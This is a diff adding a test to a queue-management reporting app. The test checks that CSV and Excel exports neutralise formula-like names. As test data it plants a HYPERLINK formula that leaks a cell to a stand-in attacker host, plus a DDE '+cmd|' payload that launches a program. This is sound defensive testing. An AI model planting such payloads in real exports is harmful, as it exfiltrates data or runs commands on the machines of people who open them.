@@ -130,3 +130,41 @@ def test_charts_are_svg_needing_nothing_from_the_internet(client, center, day, n
 
 def test_unknown_chart(client, center):
     assert client.get("/reports/chart/pie.svg", headers=bearer(center)).status_code == 404
+
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
+
+
+def test_names_that_look_like_formulas_are_exported_as_text(client, center, day, qms):
+    # Names come from people: an officer named like a formula, services starting with + - @ tab.
+    def rename(db, cfg, now):
+        db.execute("UPDATE users SET full_name = ? WHERE username = 'officer1'", [EVIL])
+        db.execute("UPDATE users SET full_name = '@SUM(1+1)' WHERE username = 'officer2'")
+        db.execute("UPDATE services SET name_vi = '+cmd|'' /C calc''!A0' WHERE code = 'A'")
+        db.execute("UPDATE services SET name_vi = '-2+3', name_en = '\t=1+1' WHERE code = 'B'")
+    qms.write(rename)
+    officers = list(csv.reader(io.StringIO(client.get(f"/reports/export/officers.csv?{DAY}", headers=bearer(center))
+                                            .data.decode("utf-8-sig"))))
+    names = [row[0] for row in officers[1:]]
+    assert "'" + EVIL in names and "'@SUM(1+1)" in names
+    o1 = next(row for row in officers if row[0] == "'" + EVIL)
+    assert o1[1] == "3"  # the figures stay numbers (served)
+    services = [row[0] for row in csv.reader(io.StringIO(
+        client.get(f"/reports/export/services.csv?{DAY}", headers=bearer(center)).data.decode("utf-8-sig")))]
+    assert "'+cmd|' /C calc'!A0" in services and "'-2+3" in services
+    en = [row[0] for row in csv.reader(io.StringIO(
+        client.get(f"/reports/export/services.csv?{DAY}&lang=en", headers=bearer(center)).data.decode("utf-8-sig")))]
+    assert "'\t=1+1" in en
+
+    wb = load_workbook(io.BytesIO(client.get(f"/reports/export/all.xlsx?{DAY}&officer=officer1&lang=vi",
+                                             headers=bearer(center)).data))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    formulas = [c.coordinate for c in cells if c.data_type == "f"]
+    assert formulas == [], formulas
+    evil = [c for c in cells if c.value == EVIL]
+    assert evil and all(c.data_type == "s" and c.quotePrefix for c in evil)  # officers, ranking, heading
+    assert any(c.value == "+cmd|' /C calc'!A0" and c.data_type == "s" for c in cells)
+    assert any(c.value == "Cán bộ: " + EVIL for c in cells)  # the filter line of the heading
+    # numbers are still numbers
+    row = next(r for r in wb["officers"].iter_rows() if r[0].value == EVIL)
+    assert all(c.data_type == "n" for c in row[1:] if c.value is not None)
